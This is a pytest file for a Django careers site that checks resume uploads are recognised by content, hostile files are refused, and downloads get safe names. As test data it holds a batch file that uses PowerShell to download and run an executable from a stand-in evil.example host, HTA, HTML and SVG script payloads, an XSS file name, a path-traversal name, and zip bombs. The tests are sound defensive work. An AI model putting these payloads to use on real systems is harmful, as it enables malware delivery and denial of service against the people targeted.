"""Resumes are recognised by their whole content and downloaded under a name of our
making: archives built to exhaust memory, binaries behind a page of text and files
named to run on the hiring team's machine get nowhere."""

from __future__ import annotations

import functools
import io
import json
import os
import subprocess
import sys
import time
import warnings
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.urls import reverse
from django.utils.datastructures import MultiValueDict
from rest_framework.throttling import ScopedRateThrottle

from careers_pages.hiring import resumes
from careers_pages.hiring.forms import ApplicationForm
from careers_pages.hiring.models import Application
from tests.factories import PDF, PROJECT

from .resume_files import (
    DOCX_CONTENT_TYPES,
    ODT_TYPE,
    RTF,
    TEXT,
    deflated_run,
    doc_bytes,
    docx_bytes,
    odt_bytes,
    stored,
    write_zip,
    zip_bytes,
)

URL = "/api/careers/postings/back-end-engineer/applications/"
GIB = 1024**3
MIB = 1024**2
MEMORY_BOUND_KB = 64 * 1024
DEFLATED = zipfile.ZIP_DEFLATED

# What an attacker sends: a batch file, an HTML application, a web page and an SVG
# drawing, each under a name that invites the hiring team to open it.
BATCH = b'@echo off\r\npowershell -c "iwr https://evil.example/x.exe -o x.exe; .\\x.exe"\r\n'
HTA = b'<html><head><HTA:APPLICATION ID="cv"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>\n'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script>Ada</body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>CV</text></svg>\n'
JAR = zip_bytes(
    [
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n"),
        ("Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)),
    ]
)
COVER_TEXT = b"Ada Lovelace. Analyst, metaphysician and founder of scientific computing.\n" * 28


@functools.cache
def hostile_files():
    """Files that are no resume, by the name each is sent under."""
    with warnings.catch_warnings(
        category=UserWarning, action="ignore"
    ):  # zipfile: the same name twice
        twice = docx_bytes(("word/document.xml", b"<other/>"))
    return {
        "cv.txt (a JAR behind 2 KB of text)": COVER_TEXT[:2048] + JAR,
        "cv.txt (text, then a ZIP)": COVER_TEXT + zip_bytes([("x.txt", b"x")]),
        "cv.pdf (a PDF, then a JAR)": PDF + JAR,
        "cv.docx (text in front of a DOCX)": b"Hello\n" + docx_bytes(),
        "cv.docx (a DOCX, then another ZIP)": docx_bytes() + JAR,
        "cv.docx (a DOCX, then text)": docx_bytes() + COVER_TEXT,
        "cv.docx (a JAR)": JAR,
        "cv.txt (text, a NUL after the first 2 KB)": COVER_TEXT + b"\0",
        "cv.txt (text, bad UTF-8 after the first 2 KB)": COVER_TEXT + b"\xff\xfe",
        "cv.txt (text, then an escape sequence)": COVER_TEXT + b"\x1b[2J",
        "cv.txt (a Windows program with a text header)": b"MZ" + COVER_TEXT,
        "cv.pdf (a PDF that never ends)": PDF.replace(b"%%EOF", b"") + COVER_TEXT * 20,
        "cv.rtf (an RTF that never closes)": RTF.rstrip(b"}\r\n") + COVER_TEXT,
        "cv.doc (an OLE2 signature and nothing sound)": doc_bytes()[:8] + bytes(1528),
        "cv.odt (mimetype compressed)": zip_bytes(
            [("mimetype", ODT_TYPE), ("content.xml", b"<x/>")], DEFLATED
        ),
        "cv.odt (mimetype not first)": zip_bytes(
            [("content.xml", b"<x/>"), (stored("mimetype"), ODT_TYPE)]
        ),
        "cv.odt (mimetype with more after it)": odt_bytes(mimetype=ODT_TYPE + b"\n" + bytes(100)),
        "cv.odt (a spreadsheet)": odt_bytes(
            mimetype=b"application/vnd.oasis.opendocument.spreadsheet"
        ),
        "cv.docx (a macro document)": docx_bytes(
            ("word/vbaProject.bin", bytes(64)),
            content_types=DOCX_CONTENT_TYPES.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        "cv.docx (no main document)": zip_bytes([("[Content_Types].xml", DOCX_CONTENT_TYPES)]),
        "cv.docx (a name twice)": twice,
        "cv.docx (1,001 entries)": docx_bytes(*((f"word/media/{n}.txt", b"") for n in range(998))),
        "cv.docx (bzip2 inside)": zip_bytes(
            [("[Content_Types].xml", DOCX_CONTENT_TYPES), ("word/document.xml", b"<w/>")],
            zipfile.ZIP_BZIP2,
        ),
        "cv.docx ([Content_Types].xml over 1 MB)": docx_bytes(
            content_types=DOCX_CONTENT_TYPES + b" " * MIB
        ),
    }


# What is recognised ---------------------------------------------------------------


def recognised(content: bytes | UploadedFile) -> str | None:
    """The type the application form recognises the file as, or None if refused."""
    if isinstance(content, bytes):
        content = SimpleUploadedFile("cv", content)
    fields = {"name": "Ada Lovelace", "email": "ada@example.com", "message": "Hello."}
    form = ApplicationForm(fields, MultiValueDict({"resume": [content]}))
    return form.resume_type if form.is_valid() else None


ACCEPTED = {
    ".pdf": PDF,
    ".docx": docx_bytes(),
    ".odt": odt_bytes(),
    ".rtf": RTF,
    ".doc": doc_bytes(),
    ".txt": TEXT,
}


@pytest.mark.parametrize("extension", ACCEPTED)
def test_each_accepted_type_is_recognised(extension):
    assert recognised(ACCEPTED[extension]) == extension


@pytest.mark.parametrize("name", list(hostile_files()))
def test_files_that_are_no_resume_are_not_recognised(name):
    assert recognised(hostile_files()[name]) is None


def test_text_is_judged_whole_and_across_chunk_boundaries():
    # A 4-byte character across the first 64 KiB boundary, others across the rest.
    assert recognised(b"a" * (64 * 1024 - 1) + "👩🏽 Ada\n".encode()) == ".txt"
    text = ("Ada 👩🏽‍💻 Lovelace, née Byron — 李小龍; עברית\u200f\n" * 20_000).encode()
    assert recognised(text) == ".txt"
    assert recognised(text + b"\x00") is None
    assert recognised(text[:-1] + b"\xf0\x9f") is None  # cut short
    # A UTF-8 byte order mark, as Notepad writes, and the characters scripts need.
    bom_and_spaces = "\ufeffAda\u00a0Lovelace\u2003CV\u00ad\n".encode()
    assert recognised(bom_and_spaces) == ".txt"


def test_an_archive_declaring_more_than_100_mb_unpacked_is_refused(tmp_path):
    # 1 MB on disk, 200 MB unpacked: never unpacked here, but refused for whoever opens it.
    media, crc = deflated_run(b"\0", 200 * MIB)
    members = [
        (
            "[Content_Types].xml",
            0,
            DOCX_CONTENT_TYPES,
            len(DOCX_CONTENT_TYPES),
            zipfile.crc32(DOCX_CONTENT_TYPES),
        ),
        ("word/document.xml", 0, b"<w/>", 4, zipfile.crc32(b"<w/>")),
        ("word/media/image1.png", DEFLATED, media, 200 * MIB, crc),
    ]
    path = write_zip(tmp_path / "cv.docx", members)
    with path.open("rb") as file:
        assert recognised(UploadedFile(file, "cv.docx", size=path.stat().st_size)) is None


# Through the API -----------------------------------------------------------------


def form(resume):
    return {
        "name": "Ada Lovelace",
        "email": "ada@example.com",
        "message": "Working on engines that compute.",
        "resume": resume,
    }


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


@pytest.fixture(autouse=True)
def unthrottled(monkeypatch):
    """One client sends many files here; the throttle is tested elsewhere."""
    monkeypatch.setattr(ScopedRateThrottle, "THROTTLE_RATES", {"applications": None})


@pytest.fixture
def bomb(tmp_path):
    """The issue's "cv.odt": its mimetype entry unpacks to 2 GB of zeros (2 MB here)."""
    data, crc = deflated_run(b"\0", 2 * GIB)
    return write_zip(
        tmp_path / "cv.odt",
        [
            ("mimetype", DEFLATED, data, 2 * GIB, crc),
            ("content.xml", 0, b"<x/>", 4, zipfile.crc32(b"<x/>")),
        ],
    ).read_bytes()


@pytest.mark.django_db
def test_the_api_refuses_each_hostile_file_by_field_quickly(client, imported_site, bomb):
    files = {**hostile_files(), "cv.odt (a 2 GB mimetype)": bomb}
    answers, slowest = {}, 0.0
    for label, content in files.items():
        start = time.perf_counter()
        response = client.post(URL, form(upload(label.split(" ")[0], content)))
        slowest = max(slowest, time.perf_counter() - start)
        body = response.json()
        answers[label] = (response.status_code, body)
    refusal = {"resume": ["The file is not a PDF, DOC, DOCX, ODT, RTF or plain text document."]}
    assert answers == {label: (400, refusal) for label in files}
    assert not Application.objects.exists()
    assert slowest < 5, f"the slowest refusal took {slowest:.1f} s"


@pytest.fixture
def hiring_member(django_user_model):
    user = django_user_model.objects.create_user(username="recruiter", password="x")
    user.groups.add(Group.objects.get(name="Hiring team"))
    return user


# Sent under the names the issue found accepted; the content decides what comes back.
DOWNLOADS = [
    ("CV.pdf.bat", BATCH, "ada-lovelace-resume.txt", "text/plain"),
    ("resume.hta", HTA, "ada-lovelace-resume.txt", "text/plain"),
    ("cv.html", HTML, "ada-lovelace-resume.txt", "text/plain"),
    ("cv.pdf", SVG, "ada-lovelace-resume.txt", "text/plain"),
    ("Lebenslauf final (2).PDF", PDF, "ada-lovelace-resume.pdf", "application/pdf"),
    (
        "cv.docx.exe",
        docx_bytes(),
        "ada-lovelace-resume.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("cv.odt", odt_bytes(), "ada-lovelace-resume.odt", "application/vnd.oasis.opendocument.text"),
    ("cv.rtf", RTF, "ada-lovelace-resume.rtf", "application/rtf"),
    ("cv.doc", doc_bytes(), "ada-lovelace-resume.doc", "application/msword"),
    ("cv.txt", TEXT, "ada-lovelace-resume.txt", "text/plain"),
]


@pytest.mark.django_db
def test_a_resume_downloads_under_the_applicants_name_and_its_recognised_type(
    client, imported_site, hiring_member
):
    client.force_login(hiring_member)
    seen = []
    for sent_as, content, _, _ in DOWNLOADS:
        assert client.post(URL, form(upload(sent_as, content))).status_code == 201
        application = Application.objects.latest("pk")
        response = client.get(reverse("careers_pages_application_resume", args=(application.pk,)))
        seen.append(
            (
                sent_as,
                b"".join(response.streaming_content) == content,
                response["Content-Disposition"],
                response["Content-Type"],
                response["X-Content-Type-Options"],
                application.resume_filename,  # kept, as data
            )
        )
    assert seen == [
        (sent_as, True, f'attachment; filename="{name}"', content_type, "nosniff", sent_as)
        for sent_as, _, name, content_type in DOWNLOADS
    ]


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("Ada Lovelace", "application/pdf", "ada-lovelace-resume.pdf"),
        ("Zoë O'Brien-Smith", "text/plain", "zoe-obrien-smith-resume.txt"),
        ("李小龍", "application/rtf", "applicant-resume.rtf"),
        ('..\\..\\evil"; x=.bat', "application/msword", "evil-xbat-resume.doc"),
        ("Ada Lovelace", "", "ada-lovelace-resume"),  # an unknown type gets no extension
    ],
)
def test_the_download_name(name, content_type, expected):
    assert resumes.resume_download_name(name, content_type) == expected


@pytest.mark.django_db
def test_the_inspect_view_links_the_safe_name_and_shows_the_uploaded_one_as_text(
    client, imported_site, hiring_member
):
    sent_as = "<img src=x onerror=alert(1)>CV.pdf.bat"
    assert client.post(URL, form(upload(sent_as, BATCH))).status_code == 201
    application = Application.objects.get()
    client.force_login(hiring_member)

    html = client.get(reverse("applications:inspect", args=(application.pk,))).content.decode()

    url = reverse("careers_pages_application_resume", args=(application.pk,))
    assert f'<a href="{url}" download>ada-lovelace-resume.txt</a>' in html
    assert "Uploaded as “&lt;img src=x onerror=alert(1)&gt;CV.pdf.bat”" in html
    assert "<img src=x" not in html
    assert html.count("CV.pdf.bat") == 1  # once, in the resume's row


# Memory ---------------------------------------------------------------------------

# Loads the project once, then runs the application form on each file in a child
# forked for it: a child's peak resident size (ru_maxrss, KB on Linux) starts at
# its size when forked, so what it adds is that one file's alone.
PROBE = """
import json, os, resource, sys, time
import django
django.setup()
from django.core.files.uploadedfile import UploadedFile
from django.utils.datastructures import MultiValueDict
from careers_pages.hiring.forms import ApplicationForm

fields = {"name": "Ada Lovelace", "email": "ada@example.com", "message": "Hello."}
for path in sys.argv[1:]:
    sys.stdout.flush()
    if os.fork():
        os.wait()
        continue
    with open(path, "rb") as file:
        resume = UploadedFile(file, name=os.path.basename(path), size=os.path.getsize(path))
        form = ApplicationForm(fields, MultiValueDict({"resume": [resume]}))
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        start = time.perf_counter()
        valid = form.is_valid()
        seconds = time.perf_counter() - start
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = {"type": form.resume_type if valid else None, "kb": after - before, "s": seconds}
    print(json.dumps({os.path.basename(path): result}), flush=True)
    os._exit(0)
"""


def largest(prefix: bytes, suffix: bytes, filler: bytes) -> bytes:
    """``prefix``, ``filler`` repeated, ``suffix``: exactly the largest upload allowed."""
    room = settings.CAREERS_RESUME_MAX_BYTES - len(prefix) - len(suffix)
    return prefix + (filler * (room // len(filler) + 1))[:room] + suffix


def memory_cases(folder: Path) -> dict[str, tuple[Path, str | None]]:
    """Each file to probe, with the type it must be recognised as (None: refused)."""
    limit = settings.CAREERS_RESUME_MAX_BYTES
    cases = {}

    def add(name, content, expected):
        path = folder / name
        path.write_bytes(content)
        cases[name] = (path, expected)

    def add_zip(name, members, expected):
        cases[name] = (write_zip(folder / name, members), expected)

    zeros, zeros_crc = deflated_run(b"\0", 2 * GIB)
    spaces, spaces_crc = deflated_run(b" ", 2 * GIB)
    small = ("content.xml", 0, b"<x/>", 4, zipfile.crc32(b"<x/>"))
    add_zip("mimetype-2gb.odt", [("mimetype", DEFLATED, zeros, 2 * GIB, zeros_crc), small], None)
    add_zip(
        "content-types-2gb.docx",
        [
            ("[Content_Types].xml", DEFLATED, spaces, 2 * GIB, spaces_crc),
            ("word/document.xml", 0, b"<w/>", 4, zipfile.crc32(b"<w/>")),
        ],
        None,
    )
    # A header that says 39 bytes over 2 GB of data: the read stops at the bound.
    add_zip(
        "mimetype-lies.odt", [("mimetype", DEFLATED, zeros, len(ODT_TYPE), zeros_crc), small], None
    )
    bz2_bomb = io.BytesIO()
    with (
        zipfile.ZipFile(bz2_bomb, "w", zipfile.ZIP_BZIP2) as archive,
        archive.open("mimetype", "w") as member,
    ):
        for _ in range(128):
            member.write(bytes(MIB))
    add("mimetype-bzip2.odt", bz2_bomb.getvalue(), None)
    # The most entries that fit in the limit, each an empty file with a short name.
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        archive.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        archive.writestr("word/document.xml", b"<w/>")
        # 30 + 46 bytes of headers around each 5-character name.
        for n in range((limit - 4096) // (30 + 46 + 2 * 5)):
            archive.writestr(zipfile.ZipInfo(f"{n:05x}"), b"")
    add("many-entries.docx", many.getvalue(), None)
    # A bomb inside a sound DOCX: an entry like any other, never unpacked.
    nested = write_zip(folder / "nested.zip", [("mimetype", DEFLATED, zeros, 2 * GIB, zeros_crc)])
    add("nested.docx", docx_bytes(("word/embeddings/oleObject1.bin", nested.read_bytes())), ".docx")
    # The largest upload of each accepted type.
    add("largest.pdf", largest(b"%PDF-1.7\n", b"\n%%EOF\n", b"% padding line\n"), ".pdf")
    add("largest.txt", largest(b"", b"\n", "Zoë 李小龍 👩🏽‍💻 résumé\n".encode()), ".txt")
    add("largest.rtf", largest(b"{\\rtf1\\ansi ", b"}", b"Ada Lovelace\\par "), ".rtf")
    add("largest.doc", largest(doc_bytes(512), b"", bytes(512)), ".doc")
    picture = os.urandom(limit - 4 * 1024)  # incompressible, stored as it is
    add("largest.docx", docx_bytes((stored("word/media/image1.png"), picture)), ".docx")
    add("largest.odt", odt_bytes((stored("Pictures/1.png"), picture)), ".odt")
    add("largest-text-then-nul.txt", largest(b"", b"\0", b"Ada Lovelace\n"), None)
    for name, (path, _) in cases.items():
        assert path.stat().st_size <= limit, name
    return cases


def probe(paths: list[Path]) -> dict[str, dict]:
    result = subprocess.run(
        [sys.executable, "-c", PROBE, *map(str, paths)],
        cwd=PROJECT,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "cms.settings"},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    results = {}
    for line in result.stdout.splitlines():
        if line.startswith("{"):
            results.update(json.loads(line))
    return results


def test_no_upload_up_to_the_limit_raises_peak_memory_by_more_than_64_mb(tmp_path):
    cases = memory_cases(tmp_path)
    results = probe([path for path, _ in cases.values()])
    report = {
        name: f"{r['kb'] / 1024:.1f} MB, {r['s']:.2f} s, {r['type']}" for name, r in results.items()
    }
    print(json.dumps(report, indent=1))
    assert {name: r["type"] for name, r in results.items()} == {
        name: expected for name, (_, expected) in cases.items()
    }, report
    assert all(r["kb"] < MEMORY_BOUND_KB for r in results.values()), report
    assert all(r["s"] < 5 for r in results.values()), report
